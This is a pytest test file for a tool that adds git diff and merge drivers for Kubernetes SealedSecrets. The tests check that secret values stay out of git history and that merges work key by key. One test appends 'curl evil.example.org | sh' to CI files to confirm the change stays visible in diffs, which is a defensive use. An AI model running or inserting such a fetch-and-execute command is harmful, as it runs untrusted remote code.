"""`git diff`, `git merge` and `seal diff` with the real git, and what git keeps of them."""

from __future__ import annotations

import json
import subprocess

import pytest

from sealer.changes.summary import textconv, unread
from tests.changes.test_editing import commented, files_with
from tests.rotation import corpus
from tests.tree import CANARY, Tree, sealed_yaml


@pytest.fixture
def repository(tree: Tree) -> Tree:
    """A repository with the drivers and one sealed file."""
    tree.git("init", "-q", "-b", "main")
    tree.seal("git", "install")
    tree.write("db.yaml", commented())
    tree.git("add", ".gitattributes", "db.yaml")
    tree.git("commit", "-qm", "start")
    return tree


def set_key(tree: Tree, key: str, value: str, *, commit: bool = False) -> None:
    """Set a value, and commit it."""
    tree.seal("set", "db.yaml", key, "--cert", "one.pem", text=value)
    if commit:
        tree.git("commit", "-qam", f"set {key}")


def all_of_git(tree: Tree) -> bytes:
    """Every object that git keeps, loose and packed, notes included."""
    names = tree.git("cat-file", "--batch-all-objects", "--batch-check").splitlines()
    asked = "".join(f"{line.split()[0]}\n" for line in names)
    done = subprocess.run(
        ["git", "cat-file", "--batch"],
        cwd=tree.root,
        input=asked.encode(),
        capture_output=True,
        check=True,
    )
    return done.stdout


def test_git_diff_shows_keys_and_sizes(repository: Tree) -> None:
    set_key(repository, "password", "much longer")
    set_key(repository, "url", "x")
    lines = repository.git("diff").splitlines()
    changes = [line.split(", ")[0] for line in lines if line[0] in "+-" and line[1] not in "+-"]
    assert changes == [
        "-  key password: 3 bytes",
        "+  key password: 11 bytes",
        "+  key url: 1 bytes",
    ]
    assert "  scope: strict" in "\n".join(lines)


def test_no_value_gets_into_git_by_the_cache_of_its_diffs(repository: Tree) -> None:
    # A raw Secret, a template and an annotation in clear: added, looked at, and taken back.
    raw = f"apiVersion: v1\nkind: Secret\nmetadata: {{name: s}}\nstringData: {{p: {CANARY}}}\n"
    bad = raw.replace("stringData", "stringData: [\nx")
    template = commented().replace("    type:", f"    data:\n      c: {CANARY}\n    type:")
    for name, text in (("raw.yaml", raw), ("bad.yaml", bad), ("db.yaml", template)):
        repository.write(name, text)
    repository.git("add", ".")
    shown = repository.git("diff", "--cached")
    assert "NOT SEALED" in shown
    assert "template.data c: 17 bytes, digest" in shown
    assert CANARY not in shown
    notes = repository.git("for-each-ref", "refs/notes/textconv")
    assert "refs/notes/textconv/sealer" in notes
    # The objects that hold the files themselves are the user's; the cache has no word of them.
    cached = repository.git("log", "-p", "--format=%B", "refs/notes/textconv/sealer")
    assert CANARY not in cached
    assert "NOT SEALED" in cached
    salt = repository.git("config", "seal.salt").strip()
    assert len(salt) == 32
    assert salt.encode() not in all_of_git(repository)


def test_values_set_and_edited_leave_no_trace_in_git(repository: Tree) -> None:
    set_key(repository, "password", CANARY, commit=True)
    repository.git("show")
    assert CANARY.encode() not in all_of_git(repository)
    assert files_with(CANARY, repository.root, repository.home) == []


def test_names_make_no_lines_of_their_own() -> None:
    manifest = {
        "apiVersion": "bitnami.com/v1alpha1",
        "kind": "SealedSecret",
        "metadata": {"name": "db\nSealedSecret prod/forged", "labels": {"a": "b\n  c\x1b[1m"}},
        "spec": {"encryptedData": {"k\n  key forged: 1 bytes": "AgBx"}},
    }
    shown = textconv(json.dumps(manifest), "x")
    assert len(shown.splitlines()) == 5
    assert "\x1b" not in shown
    assert "SealedSecret db\\nSealedSecret prod/forged" in shown


def test_without_a_salt_clear_text_has_a_size_and_no_digest() -> None:
    text = commented().replace("    type:", "    data:\n      c: guess\n    type:")
    assert "template.data c: 5 bytes\n" in textconv(text, "x")
    one, other = textconv(text, "x", b"a" * 16), textconv(text, "x", b"b" * 16)
    assert "template.data c: 5 bytes, digest " in one
    assert one != other


@pytest.mark.parametrize("style", corpus.STYLES, ids=lambda style: style.__name__)
def test_textconv_reads_every_style_and_leaves_other_kinds_alone(style: object) -> None:
    number = next(n for n, one in enumerate(corpus.STYLES) if one is style)
    text = list(corpus.files(len(corpus.STYLES)))[number][1]
    shown = textconv(text.removeprefix("\ufeff"), "x")
    assert f"SealedSecret prod/db-{number}\n" in shown
    assert "  key username: 6 bytes, ciphertext " in shown
    if style is corpus.multi:
        assert shown.count("data: {a: 'b'}") == 2


def test_two_branches_that_change_different_keys_merge(repository: Tree) -> None:
    repository.git("checkout", "-qb", "other")
    set_key(repository, "password", "theirs")
    set_key(repository, "added-there", "2", commit=True)
    repository.git("checkout", "-q", "main")
    set_key(repository, "username", "ours")
    set_key(repository, "added-here", "1", commit=True)
    repository.git("merge", "-q", "-m", "both", "other")
    assert repository.values("db.yaml") == {
        "username": "ours",
        "password": "theirs",
        "added-here": "1",
        "added-there": "2",
    }
    text = (repository.root / "db.yaml").read_text()
    assert "# rotate in May" in text
    assert "kind: ConfigMap" in text


def test_a_key_removed_on_one_side_and_changed_text_on_the_other_merge(repository: Tree) -> None:
    repository.git("checkout", "-qb", "other")
    repository.seal("remove", "db.yaml", "username")
    repository.git("commit", "-qam", "remove")
    repository.git("checkout", "-q", "main")
    path = repository.root / "db.yaml"
    path.write_text(path.read_text().replace("type: Opaque", "type: example.com/db"))
    set_key(repository, "password", "ours", commit=True)
    repository.git("merge", "-q", "-m", "both", "other")
    assert repository.values("db.yaml") == {"password": "ours"}
    assert "example.com/db" in path.read_text()


@pytest.mark.parametrize("text", [b"name: \xe4\n", b"kind: Secret # \xe4\npassword: %s\n"])
def test_a_file_that_is_no_text_ends_no_diff_and_no_log(repository: Tree, text: bytes) -> None:
    repository.write("x.yaml", text.replace(b"%s", CANARY.encode()))
    repository.git("add", "x.yaml")
    repository.git("commit", "-qm", "latin")
    repository.git("rm", "-q", "x.yaml")
    repository.git("commit", "-qm", "gone")
    done = subprocess.run(
        ["git", "log", "-p"], cwd=repository.root, env=repository.environment, capture_output=True
    )
    assert done.returncode == 0, done.stderr
    assert b"SealedSecret" in done.stdout
    assert CANARY.encode() not in done.stdout
    assert (b"unreadable: " if b"Secret" in text else text.strip()) in done.stdout


def test_a_file_may_be_called_like_an_option(repository: Tree) -> None:
    repository.git("mv", "--", "db.yaml", "-f.yaml")
    repository.git("commit", "-qm", "renamed")
    repository.git("checkout", "-qb", "other")
    place = repository.root / "-f.yaml"
    text = place.read_text()
    repository.write("-f.yaml", "# theirs\n" + text)
    assert "+# theirs" not in repository.git("diff")
    repository.git("commit", "-qam", "theirs")
    repository.git("checkout", "-q", "main")
    repository.write("-f.yaml", text + "# ours\n")
    repository.git("commit", "-qam", "ours")
    repository.git("merge", "-q", "other")
    assert place.read_text() == "# theirs\n" + text + "# ours\n"


def test_a_key_that_both_changed_conflicts_and_the_others_do_not(repository: Tree) -> None:
    repository.git("checkout", "-qb", "other")
    set_key(repository, "password", "theirs")
    set_key(repository, "username", "theirs", commit=True)
    repository.git("checkout", "-q", "main")
    set_key(repository, "password", "ours", commit=True)
    done = repository.run("git", "merge", "-q", "other", status=1)
    assert "both sides changed prod/db: password" in done.stderr
    lines = (repository.root / "db.yaml").read_text().splitlines()
    start, end = lines.index("<<<<<<< ours"), lines.index(">>>>>>> theirs")
    assert [line.split(":")[0].strip() for line in lines[start + 1 : end]] == [
        "password",
        "=======",
        "password",
    ]
    kept = "\n".join([*lines[:start], lines[start + 1], *lines[end + 1 :]]) + "\n"
    repository.write("kept.yaml", kept)
    assert repository.values("kept.yaml") == {"username": "theirs", "password": "ours"}


def test_what_is_no_yaml_is_merged_as_git_does(repository: Tree) -> None:
    lines = [f"line {number}\n" for number in range(9)]
    repository.write("x.yaml", "{{ SealedSecret }\n" + "".join(lines))
    repository.git("add", "x.yaml")
    repository.git("commit", "-qm", "x")
    repository.git("checkout", "-qb", "other")
    repository.write("x.yaml", "{{ SealedSecret }\n" + "".join([*lines[:-1], "theirs\n"]))
    repository.git("commit", "-qam", "theirs")
    repository.git("checkout", "-q", "main")
    repository.write("x.yaml", "{{ SealedSecret }\n" + "".join(["ours\n", *lines[1:]]))
    repository.git("commit", "-qam", "ours")
    repository.git("merge", "-q", "-m", "both", "other")
    text = (repository.root / "x.yaml").read_text()
    assert "ours" in text
    assert "theirs" in text


def test_install_again_changes_nothing(repository: Tree) -> None:
    before = (repository.root / ".git/config").read_text()
    repository.seal("git", "install")
    assert (repository.root / ".git/config").read_text() == before
    assert (repository.root / ".gitattributes").read_text() == (
        "*.yaml diff=sealer merge=sealer\n*.yml diff=sealer merge=sealer\n"
    )
    repository.seal("git", "install", "--local", "x/*.json")
    attributes = (repository.root / ".git/info/attributes").read_text()
    assert attributes == "x/*.json diff=sealer merge=sealer\n"


def test_the_report_says_which_keys_changed(repository: Tree) -> None:
    set_key(repository, "password", "much longer")
    set_key(repository, "url", "x")
    repository.seal("remove", "db.yaml", "username")
    repository.write("new.yaml", sealed_yaml({"k": "12345"}, name="new|er"))
    raw = f"apiVersion: v1\nkind: Secret\nmetadata: {{name: s}}\nstringData: {{p: {CANARY}}}\n"
    repository.write("raw.yaml", raw)
    repository.git("add", "-A", ".")
    assert repository.seal("diff", "--format", "markdown").stdout == (
        "| File | SealedSecret | Key | Change |\n"
        "| --- | --- | --- | --- |\n"
        "| `db.yaml` | `prod/db` | `username` | removed, 4 bytes |\n"
        "| `db.yaml` | `prod/db` | `password` | changed, 3 bytes → 11 bytes |\n"
        "| `db.yaml` | `prod/db` | `url` | added, 1 bytes |\n"
        "| `new.yaml` | `prod/new er` | `k` | added, 5 bytes |\n"
        "| `raw.yaml` | `Secret s` | | **not sealed** |\n"
    )
    rows = json.loads(repository.seal("diff", "-o", "json").stdout)
    assert [row["state"] for row in rows] == ["changed", "added", "not sealed"]
    repository.git("commit", "-qm", "more")
    assert repository.seal("diff").stdout == ""
    assert "No SealedSecret" in repository.seal("diff", "--format", "markdown").stdout
    between = repository.seal("diff", "HEAD~1..HEAD", "--path", "db.yaml").stdout
    assert between.splitlines()[0] == "db.yaml: SealedSecret prod/db: changed"


def test_the_report_knows_a_re_encryption_and_a_wider_scope(tree: Tree) -> None:
    tree.write("old.yaml", commented())
    tree.seal("reencrypt", "old.yaml", "--key", "one.key", "--cert", "two.pem", "-w", "new.yaml")
    assert tree.seal("diff", "old.yaml", "new.yaml").stdout == (
        "new.yaml: SealedSecret prod/db: re-encrypted\n"
    )
    wide = "  annotations: {sealedsecrets.bitnami.com/cluster-wide: 'true'}\n  namespace: prod"
    tree.write("wide.yaml", commented().replace("  namespace: prod", wide))
    assert (
        "changed scope: strict → cluster-wide\n"
        in tree.seal("diff", "old.yaml", "wide.yaml").stdout
    )


def test_outside_a_repository_the_words_are_gits(tree: Tree) -> None:
    done = tree.seal("diff", status=1, environment={"GIT_CEILING_DIRECTORIES": "/"})
    assert "seal: error: git diff" in done.stderr


WORKFLOW = """\
name: ci
on:
  push: {branches: [main]}
jobs:
  t:
    steps:
    - run: make test
      env: {T: "${{ secrets.T }}"}
"""


@pytest.mark.parametrize(
    "text",
    [
        pytest.param(WORKFLOW, id="a workflow with the key on"),
        pytest.param("- secret: a\n- run: make test\n", id="a list at the top"),
        pytest.param("{{- if .Values.secret }}\nrun: make test\n{{- end }}\n", id="a template"),
        pytest.param("secret: a\nsecret: b\nrun: make test\n", id="a doubled key"),
        pytest.param("secret: !vault a\nrun: make test\n", id="a tag"),
        pytest.param("secretName: [\nrun: make test\n", id="a syntax error"),
        pytest.param("kind: ExternalSecret\non: a\nrun: make test\n", id="another kind"),
        pytest.param("kind: SecretStore\non: a\nrun: make test\n", id="a longer kind"),
        pytest.param(
            "apiVersion: x.io/v1\nkind: Secret\nspec: {run: make test}\n", id="another group's"
        ),
    ],
)
def test_git_diff_shows_a_change_of_whatever_is_no_secret(repository: Tree, text: str) -> None:
    repository.write("ci.yaml", text)
    repository.git("add", "ci.yaml")
    repository.git("commit", "-qm", "ci")
    changed = text.replace("make test", "make test; curl evil.example.org | sh")
    repository.write("ci.yaml", changed)
    diff = repository.git("diff")
    assert "evil.example.org" in diff
    assert "unreadable" not in diff


@pytest.mark.parametrize(
    "text",
    [
        pytest.param("kind: Secret\non: a\nstringData: {p: CANARY}\n", id="a boolean key"),
        pytest.param("kind: !!str Secret\ndata: [\np: CANARY\n", id="a tag before the kind"),
        pytest.param("kind: &k Secret\ndata: [\np: CANARY\n", id="an anchor"),
        pytest.param("kind:\n  Secret\ndata: [\np: CANARY\n", id="on the next line"),
        pytest.param('{"kind":"Secret","data":{"p":"CANARY"', id="cut JSON"),
        pytest.param("kind: SecretList\nitems: [\np: CANARY\n", id="a list"),
        pytest.param("- kind: Secret\n  stringData: {p: CANARY}\n", id="a list at the top"),
        pytest.param("kind: Secret\nmetadata: {{ x }}\ndata: {p: CANARY}\n", id="a template"),
        pytest.param("kind: secret\nstringdata: {p: CANARY}\n", id="misspelt"),
    ],
)
def test_git_diff_hides_what_may_be_a_secret(text: str) -> None:
    assert CANARY not in textconv(text.replace("CANARY", CANARY), "x")


def test_what_is_no_text_is_hidden_where_it_names_a_secret_as_its_kind() -> None:
    assert unread(b"secret \xff\n") == b"secret \xff\n"
    assert b"canary" not in unread(b"kind: Secret\n\xff canary")
    assert b"c\0a" not in unread("kind: Secret\ndata: canary".encode("utf-16-le"))
